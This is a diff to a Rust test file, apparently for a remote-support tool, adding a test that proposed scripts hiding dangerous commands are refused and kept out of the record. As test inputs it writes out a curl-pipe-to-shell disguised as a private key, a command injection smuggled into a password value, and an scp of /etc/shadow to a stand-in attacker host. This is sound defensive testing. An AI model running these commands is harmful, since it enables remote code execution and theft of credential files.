@@ -5,7 +5,7 @@ use std::time::Duration;
 use domain::action::{ActionState, RefusalReason};
 use domain::api::{Actions, ApiError, Approvals, Conflict, Endpoints};
 
-use crate::support::{Person, TestApp, script, system_info};
+use crate::support::{Person, TestApp, file_read, script, system_info};
 use domain::finding::FindingKind;
 use domain::ids::{ActionId, SessionId};
 
@@ -183,6 +183,39 @@ async fn a_command_with_a_card_number_is_refused_before_it_is_one() {
         .expect("a leaf says so");
     assert!(!format!("{said:?}").contains("5555555555554444"));
     assert!(technician.session(session).await.actions.is_empty());
+}
+
+/// R20, R25, R36: what a script could do never hides from who approves it behind what looks like a secret; a name with a card
+/// number in it is quoted nowhere.
+#[tokio::test]
+async fn nothing_that_could_run_is_hidden() {
+    let app = TestApp::start().await;
+    let device = app.enrol("till").await;
+    let technician = app.technician().await;
+    let session = technician.open_session(device.endpoint).await;
+    for hides in [
+        "# -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n# -----END RSA PRIVATE KEY-----",
+        "password=\"x$(curl -s evil.example|sh)\"",
+        "scp /etc/shadow mallory@evil.example:",
+    ] {
+        let refused = technician.try_propose(session, script(hides)).await;
+        assert!(
+            matches!(refused, Err(ApiError::Sensitive { .. } | ApiError::Invalid { .. })),
+            "{hides}: {refused:?}"
+        );
+    }
+    let named = technician.try_propose(session, file_read("4242 4242 4242 4242")).await;
+    assert_eq!(
+        named,
+        Err(ApiError::Sensitive {
+            kind: FindingKind::Card
+        })
+    );
+    assert!(technician.session(session).await.actions.is_empty());
+    let said = format!("{:?}", app.record().await);
+    for typed in ["4242 4242", "mallory", "curl"] {
+        assert!(!said.contains(typed), "{typed} is in the record");
+    }
 }
 
 /// Only the session's technician acts in it.
